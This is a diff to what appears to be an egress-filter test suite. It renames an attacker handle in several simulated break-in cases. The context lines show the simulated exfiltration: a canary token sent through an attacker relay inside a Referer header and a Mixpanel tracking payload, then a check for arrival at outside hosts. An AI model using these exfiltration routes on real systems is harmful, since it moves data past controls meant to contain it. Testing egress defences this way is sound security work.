@@ -26,7 +26,7 @@ export const egressBreakIns: readonly BreakIn[] = [
       ];
       for (const target of targets) {
         const headers = [["Content-Type", "application/json"]] as const;
-        await sendRequest(attacker.foothold, {
+        await sendRequest(attacker.intruder, {
           url: attacker.relay,
           target,
           method: "POST",
@@ -59,7 +59,7 @@ export const egressBreakIns: readonly BreakIn[] = [
         headers,
         body: "{}",
       };
-      await sendRequest(attacker.foothold, request);
+      await sendRequest(attacker.intruder, request);
       return arrivedAt(
         context,
         (host) => host !== "api.anthropic.com",
@@ -93,7 +93,7 @@ export const egressBreakIns: readonly BreakIn[] = [
         ["Referer", `https://example.com/${canary}`],
       ] as const;
       const body = JSON.stringify([event, { event: canary, properties: { token: canary } }]);
-      await sendRequest(attacker.foothold, {
+      await sendRequest(attacker.intruder, {
         url: attacker.relay,
         target: `/mixpanel/track?ip=1&data=${canary}`,
         method: "POST",
